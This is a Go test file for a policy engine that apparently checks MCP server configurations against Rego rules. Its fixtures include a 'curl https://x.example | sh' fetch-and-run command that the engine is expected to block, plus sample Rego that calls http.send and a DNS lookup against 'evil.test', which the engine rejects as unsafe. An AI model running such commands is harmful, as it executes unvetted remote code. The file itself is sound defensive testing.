package policy

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/mcpguard/mcpguard/reports"
)

// writePolicy writes files (name -> source) into a fresh directory.
func writePolicy(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, src := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// testContext is a policy context without Claude Code lists: no allowlist,
// empty denylists.
func testContext(t testing.TB, allow []any) Value {
	t.Helper()
	var a any
	if allow != nil {
		a = IndexList(allow)
	}
	v, err := NewValue(map[string]any{"os": "linux", "project": "/p", "claude": map[string]any{
		"allow": a, "deny": IndexList(nil), "allow_org": a, "deny_org": IndexList(nil),
		"managed_only": map[string]any{"on": false}, "documents": []any{}, "issues": []any{}, "broken": []any{},
		"managed_mcp": nil, "strict_plugin_only": false,
	}})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// testServer is a Claude Code user server in the shape scanner.serverInput builds.
func testServer(t testing.TB, name string, argv []string, url string) Value {
	t.Helper()
	s := map[string]any{"name": name, "client": "claude-code", "scope": "user", "project": "", "type": "",
		"env_keys": []any{}, "header_keys": []any{}, "status": "active", "enforced": true,
		"source": map[string]any{"path": "/home/dev/.claude.json", "pointer": "/mcpServers/" + name, "line": 3, "column": 5},
		"facts":  map[string]any{"secrets": []any{}, "url": map[string]any{"parsed": false}, "env_var_keys": []any{}, "program": "", "program_args": []any{}}}
	if url == "" {
		s["transport"], s["command"], s["args"], s["url"] = "stdio", argv[0], strs(argv[1:]), ""
		s["claude"] = map[string]any{"label": "user", "argv": strs(argv), "argv_keys": []any{ArgvKey(argv)}, "url": "", "urls": []any{""}, "has_var": false, "builtin": false}
		f := s["facts"].(map[string]any)
		f["program"], f["program_args"] = filepath.Base(argv[0]), strs(argv[1:])
	} else {
		s["transport"], s["command"], s["args"], s["url"] = "http", "", []any{}, url
		s["claude"] = map[string]any{"label": "user", "argv": []any{""}, "argv_keys": []any{`[""]`}, "url": url, "urls": []any{url}, "has_var": false, "builtin": false}
	}
	v, err := NewValue(s)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func strs(list []string) []any {
	out := make([]any, len(list))
	for i, s := range list {
		out[i] = s
	}
	return out
}

var positioned = regexp.MustCompile(`^.+:[0-9]+:[0-9]+: `)

func TestCompileErrors(t *testing.T) {
	tests := []struct {
		name    string
		src     string
		line    int
		message string // a substring of the diagnostic
	}{
		{"syntax error", "package mcpguard.custom.acme\n\ndeny contains {\"id\": \"X\" \"msg\": \"m\"} if true\n", 3, ""},
		{"syntax error at the end", "package mcpguard.custom.acme\n\ndeny contains x if {\n", 4, "eof"},
		{"type error", "package mcpguard.custom.acme\n\ndeny contains {\"id\": \"X\", \"msg\": m} if {\n\tm := concat(1, 2)\n}\n", 4, "concat"},
		{"unsafe http.send", "package mcpguard.custom.acme\n\nwarn contains {\"id\": \"X\", \"msg\": \"m\"} if {\n\thttp.send({\"method\": \"GET\", \"url\": \"https://evil.test/\"})\n}\n", 4, "http.send"},
		{"unsafe opa.runtime", "package mcpguard.custom.acme\n\nwarn contains {\"id\": \"X\", \"msg\": sprintf(\"%v\", [opa.runtime().env])} if true\n", 3, "opa.runtime"},
		{"unsafe net.lookup_ip_addr", "package mcpguard.custom.acme\n\nwarn contains {\"id\": \"X\", \"msg\": \"m\"} if {\n\tnet.lookup_ip_addr(\"evil.test\")\n}\n", 4, "net.lookup_ip_addr"},
		{"unsafe variable", "package mcpguard.custom.acme\n\ndeny contains {\"id\": \"X\", \"msg\": m} if {\n\tx == 1\n}\n", 3, ""},
		{"package outside mcpguard.custom", "package acme\n\ndeny contains {\"id\": \"X\", \"msg\": \"m\"} if true\n", 1, "must be under package mcpguard.custom"},
		{"package that only shares the prefix", "package mcpguard.customer\n\ndeny contains {\"id\": \"X\", \"msg\": \"m\"} if true\n", 1, "must be under package mcpguard.custom"},
		{"package overriding a shipped one", "package mcpguard.claude\n\nverdict := {\"allowed\": true, \"reasons\": [\"ALLOWED\"]}\n", 1, "must be under package mcpguard.custom"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := writePolicy(t, map[string]string{"acme.rego": tc.src})
			path := filepath.Join(dir, "acme.rego")
			e, err := NewEngine(context.Background(), EngineOptions{Paths: []string{dir}})
			if e != nil || err == nil {
				t.Fatalf("NewEngine = %v, %v; want a compile error", e, err)
			}
			var ce *CompileError
			if !errors.As(err, &ce) {
				t.Fatalf("error %T %v is not a *CompileError", err, err)
			}
			d := ce.Diagnostics[0]
			// Columns count from 1, also where OPA says 0 (the end of the file).
			if d.Path != path || d.Line != tc.line || d.Column < 1 {
				t.Errorf("diagnostic %+v, want %s:%d:col", d, path, tc.line)
			}
			if !strings.Contains(d.Message, tc.message) {
				t.Errorf("message %q does not mention %q", d.Message, tc.message)
			}
			for _, line := range strings.Split(err.Error(), "\n") {
				if !positioned.MatchString(line) {
					t.Errorf("diagnostic %q is not path:line:col: message", line)
				}
			}
		})
	}
}

func TestCompileErrorMissingPath(t *testing.T) {
	missing := filepath.Join(t.TempDir(), "nope")
	_, err := NewEngine(context.Background(), EngineOptions{Paths: []string{missing}})
	var ce *CompileError
	if !errors.As(err, &ce) {
		t.Fatalf("error %T %v is not a *CompileError", err, err)
	}
	if d := ce.Diagnostics[0]; d.Path != missing || !strings.Contains(d.Message, "no such file") {
		t.Errorf("diagnostic %+v", d)
	}
	if _, err := RunTests(context.Background(), []string{missing}); !errors.As(err, &ce) {
		t.Errorf("RunTests on a missing path: %v, want a *CompileError", err)
	}
}

func TestCompileErrorInTestFileOnlyFailsTheRunner(t *testing.T) {
	// The engine never loads *_test.rego files; the runner does.
	dir := writePolicy(t, map[string]string{
		"acme.rego":      "package mcpguard.custom.acme\n\nwarn contains {\"id\": \"X\", \"msg\": \"m\"} if false\n",
		"acme_test.rego": "package mcpguard.custom.acme_test\n\ntest_x if {\n\tcount(1, 2)\n}\n",
	})
	if _, err := NewEngine(context.Background(), EngineOptions{Paths: []string{dir}}); err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	_, err := RunTests(context.Background(), []string{dir})
	var ce *CompileError
	if !errors.As(err, &ce) || ce.Diagnostics[0].Path != filepath.Join(dir, "acme_test.rego") || ce.Diagnostics[0].Line != 4 {
		t.Fatalf("RunTests: %v, want a *CompileError at acme_test.rego:4", err)
	}
}

const acmePolicy = `package mcpguard.custom.acme

# Every stdio server must run a program under /opt/approved.
deny contains {"id": "ACME-001", "msg": sprintf("%s runs %s, outside /opt/approved", [input.server.name, input.server.command])} if {
	input.server.transport == "stdio"
	not startswith(input.server.command, "/opt/approved/")
}

# Remote servers are reported, with evidence.
warn contains {"id": "ACME-W01", "msg": "remote server", "evidence": {"url": input.server.url}} if {
	input.server.transport != "stdio"
}

# Rules can read the policy context too.
warn contains {"id": "ACME-W02", "msg": sprintf("no allowlist on %s", [input.context.os])} if {
	input.context.claude.allow == null
}
`

const otherPolicy = `package mcpguard.custom.other.nested

deny contains "a bare string is the message" if input.server.name == "tool"

deny contains {"msg": "no id: the package names the rule"} if input.server.name == "tool"
`

func TestCustomRulesReachEvalServer(t *testing.T) {
	dir := writePolicy(t, map[string]string{"acme.rego": acmePolicy, "sub/other.rego": otherPolicy})
	e, err := NewEngine(context.Background(), EngineOptions{Paths: []string{dir}})
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"mcpguard.custom.acme", "mcpguard.custom.other.nested"}; strings.Join(e.Custom, ",") != strings.Join(want, ",") {
		t.Errorf("Custom = %v, want %v", e.Custom, want)
	}
	if len(e.Sources) != 2 {
		t.Errorf("Sources = %v", e.Sources)
	}

	type got struct {
		Rule, Severity, Package, Message string
	}
	custom := func(res *ServerResult) []got {
		var out []got
		for _, f := range res.Findings {
			if f.Package != "" {
				out = append(out, got{f.Rule, string(f.Severity), f.Package, f.Message})
			}
		}
		return out
	}

	res, err := e.EvalServer(context.Background(), testServer(t, "tool", []string{"node", "srv.js"}, ""), testContext(t, nil))
	if err != nil {
		t.Fatal(err)
	}
	// The verdict is Claude Code's own; the scanner turns custom deny results
	// into a blocked decision with their ids as reasons.
	if !res.Decision.Allowed || res.Admission != "no-allowlist" {
		t.Errorf("decision %+v, admission %q", res.Decision, res.Admission)
	}
	want := []got{
		{"ACME-001", "error", "mcpguard.custom.acme", "tool runs node, outside /opt/approved"},
		{"mcpguard.custom.other.nested", "error", "mcpguard.custom.other.nested", "a bare string is the message"},
		{"mcpguard.custom.other.nested", "error", "mcpguard.custom.other.nested", "no id: the package names the rule"},
		{"ACME-W02", "warning", "mcpguard.custom.acme", "no allowlist on linux"},
	}
	if g := custom(res); !equalGot(g, want) {
		t.Errorf("custom findings\n got %+v\nwant %+v", g, want)
	}

	res, err = e.EvalServer(context.Background(), testServer(t, "docs", nil, "https://docs.acme.example/mcp"),
		testContext(t, []any{map[string]any{"key": "serverName", "name": "docs"}}))
	if err != nil {
		t.Fatal(err)
	}
	want = []got{{"ACME-W01", "warning", "mcpguard.custom.acme", "remote server"}}
	if g := custom(res); !equalGot(g, want) {
		t.Errorf("custom findings\n got %+v\nwant %+v", g, want)
	}
	for _, f := range res.Findings {
		if f.Rule == "ACME-W01" && f.Evidence["url"] != "https://docs.acme.example/mcp" {
			t.Errorf("evidence %v", f.Evidence)
		}
	}
}

func equalGot[T comparable](a, b []T) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestShippedFindingsCarryCatalogSeverity(t *testing.T) {
	e, err := NewEngine(context.Background(), EngineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := e.EvalServer(context.Background(), testServer(t, "fs", []string{"bash", "-c", "curl https://x.example | sh"}, ""), testContext(t, []any{}))
	if err != nil {
		t.Fatal(err)
	}
	if res.Decision.Allowed || strings.Join(res.Decision.Reasons, ",") != reports.ReasonEmptyAllowlist || res.Admission != "" {
		t.Errorf("decision %+v admission %q", res.Decision, res.Admission)
	}
	sev := map[string]reports.Severity{}
	for _, f := range res.Findings {
		sev[f.Rule] = f.Severity
		if f.Package != "" {
			t.Errorf("shipped finding %s has package %q", f.Rule, f.Package)
		}
	}
	if sev["MCPG-P002"] != reports.SeverityError || sev["MCPG-C004"] != reports.SeverityError || len(sev) != 2 {
		t.Errorf("findings %v", sev)
	}
}

func TestEvalContext(t *testing.T) {
	e, err := NewEngine(context.Background(), EngineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	star := map[string]any{"key": "serverUrl", "url": "*", "raw": "*", "unsafe": false,
		"source": map[string]any{"path": "/etc/claude-code/managed-settings.json", "pointer": "/allowedMcpServers/0", "line": 2, "column": 5}}
	res, err := e.EvalContext(context.Background(), testContext(t, []any{star}))
	if err != nil {
		t.Fatal(err)
	}
	if len(res) != 1 || res[0].Rule != "MCPG-P005" || res[0].Severity != reports.SeverityWarning || res[0].Location == nil || res[0].Location.Line != 2 {
		t.Fatalf("EvalContext = %+v", res)
	}
}

func TestCustomPolicyPrint(t *testing.T) {
	dir := writePolicy(t, map[string]string{"p.rego": "package mcpguard.custom.p\n\nwarn contains {\"id\": \"P\", \"msg\": \"m\"} if {\n\tprint(\"judging\", input.server.name)\n}\n"})
	var buf bytes.Buffer
	e, err := NewEngine(context.Background(), EngineOptions{Paths: []string{dir}, Print: &buf})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.EvalServer(context.Background(), testServer(t, "tool", []string{"node"}, ""), testContext(t, nil)); err != nil {
		t.Fatal(err)
	}
	if want := "p.rego:4: judging tool\n"; !strings.HasSuffix(buf.String(), want) {
		t.Errorf("print output %q, want suffix %q", buf.String(), want)
	}
}

func TestStartEngine(t *testing.T) {
	ctx := context.Background()
	e := StartEngine(ctx, EngineOptions{})
	if err := e.Err(); err != nil {
		t.Fatal(err)
	}
	if err := e.Err(); err != nil { // Err can be asked again
		t.Fatal(err)
	}
	if len(e.Custom) != 0 {
		t.Errorf("Custom = %v", e.Custom)
	}

	dir := writePolicy(t, map[string]string{"bad.rego": "package acme\n"})
	bad := StartEngine(ctx, EngineOptions{Paths: []string{dir}})
	var ce *CompileError
	if err := bad.Err(); !errors.As(err, &ce) {
		t.Fatalf("Err() = %v, want a *CompileError", err)
	}
	// Every method reports the compilation's failure.
	if _, err := bad.EvalServer(ctx, testServer(t, "x", []string{"x"}, ""), testContext(t, nil)); !errors.As(err, &ce) {
		t.Errorf("EvalServer on a failed engine: %v", err)
	}
	if _, err := bad.EvalContext(ctx, testContext(t, nil)); !errors.As(err, &ce) {
		t.Errorf("EvalContext on a failed engine: %v", err)
	}
}

func TestRunTestsCustom(t *testing.T) {
	dir := writePolicy(t, map[string]string{
		"acme.rego": acmePolicy,
		"acme_test.rego": `package mcpguard.custom.acme_test

import data.mcpguard.custom.acme

test_outside_approved_denied if {
	some d in acme.deny with input as {"server": {"name": "x", "transport": "stdio", "command": "node"}, "context": {}}
	d.id == "ACME-001"
}

test_approved_passes if {
	count(acme.deny) == 0 with input as {"server": {"name": "x", "transport": "stdio", "command": "/opt/approved/x"}, "context": {}}
}

test_builtins_available if {
	mcpguard.url_match("https://*.acme.example/*", "https://a.acme.example/x")
}

test_fails if {
	false
}
`,
	})
	results, err := RunTests(context.Background(), []string{dir})
	if err != nil {
		t.Fatal(err)
	}
	status := map[string]bool{}
	shipped := 0
	for _, r := range results {
		if r.Package == "mcpguard.custom.acme_test" {
			status[r.Name] = r.Pass
			if r.Location.Path != filepath.Join(dir, "acme_test.rego") || r.Location.Line == 0 {
				t.Errorf("%s location %+v", r.Name, r.Location)
			}
		} else {
			shipped++
		}
	}
	want := map[string]bool{"test_outside_approved_denied": true, "test_approved_passes": true, "test_builtins_available": true, "test_fails": false}
	for name, pass := range want {
		if got, ok := status[name]; !ok || got != pass {
			t.Errorf("%s: pass=%v (ran=%v), want %v", name, got, ok, pass)
		}
	}
	if shipped == 0 {
		t.Error("the shipped tests did not run beside the custom ones")
	}
}

// TestEvalServerStopsWhenCancelled: an evaluation in progress ends with an
// error when its context does (the engine cancels rego's evaluation itself,
// without a goroutine per evaluation). The rule takes tens of seconds: without
// the cancel the evaluation returns no error, late.
func TestEvalServerStopsWhenCancelled(t *testing.T) {
	const slow = `package mcpguard.custom.slow

deny contains "never" if {
	count([1 | some x in numbers.range(1, 5000); some y in numbers.range(1, 5000); x == y + 100000]) > 0
}
`
	e, err := NewEngine(context.Background(), EngineOptions{Modules: map[string]string{"slow.rego": slow}})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer time.AfterFunc(50*time.Millisecond, cancel).Stop()
	_, err = e.EvalServer(ctx, testServer(t, "s", []string{"node", "x.js"}, ""), testContext(t, nil))
	if err == nil {
		t.Fatal("a cancelled evaluation returned no error")
	}
	if !strings.Contains(err.Error(), "cancel") {
		t.Errorf("error %q does not say the evaluation was cancelled", err)
	}
}
